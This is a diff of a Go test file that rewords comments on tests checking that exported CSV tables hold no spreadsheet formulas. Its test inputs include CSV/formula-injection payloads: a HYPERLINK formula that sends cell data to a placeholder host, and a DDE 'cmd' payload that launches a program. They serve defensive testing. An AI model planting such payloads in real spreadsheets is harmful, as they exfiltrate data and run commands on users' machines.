@@ -12,16 +12,16 @@ import (
 	"github.com/stretchr/testify/require"
 )
 
-// named returns a file with one definition of which texts stand where a text, a list of texts
-// and an ID may.
+// named returns a file with one definition that contains the given texts as a text, in a list of
+// texts, and as an ID.
 func named(id, name, tag string) string {
 	return fmt.Sprintf(`{"buffs": {%s: {"duration": "12s", "name": %s, "tags": [%s, "b"], "params": {"p": %[2]s}}}}`, inJSON(id), inJSON(name), inJSON(tag))
 }
 
-// plainNumber is what begins with a sign and is no formula all the same.
+// plainNumber matches numbers, which may start with a sign although they are no formulas.
 var plainNumber = regexp.MustCompile(`^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$`)
 
-// noFormula reads a table as a spreadsheet does: none of its cells may be a formula.
+// noFormula reads a table as a spreadsheet does, and checks that no cell is a formula.
 func noFormula(t *testing.T, table string) {
 	t.Helper()
 	r := csv.NewReader(strings.NewReader(table))
@@ -37,8 +37,8 @@ func noFormula(t *testing.T, table string) {
 	}
 }
 
-// TestNoFormulas: no cell is a formula for the spreadsheet that opens the table, and each reads
-// as what was written.
+// TestNoFormulas checks that no cell is a formula for the spreadsheet that opens the table, and
+// that each cell is read back unchanged.
 func TestNoFormulas(t *testing.T) {
 	for _, text := range []string{
 		`=HYPERLINK("http://x.example?"&A1,"free gold")`, "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", " =1", "-", "+", "=",
@@ -83,7 +83,7 @@ func definitionsOf(t *testing.T, root ast.Node) ast.Node {
 	return fields[0].Value
 }
 
-// FuzzNoFormulas: whatever the texts are, the table has no formula, and reads as they.
+// FuzzNoFormulas checks that a table of any texts has no formula, and is read back unchanged.
 func FuzzNoFormulas(f *testing.F) {
 	f.Add("a", "=HYPERLINK(\"x\")", "-t")
 	f.Add("=a", "+1", "@")
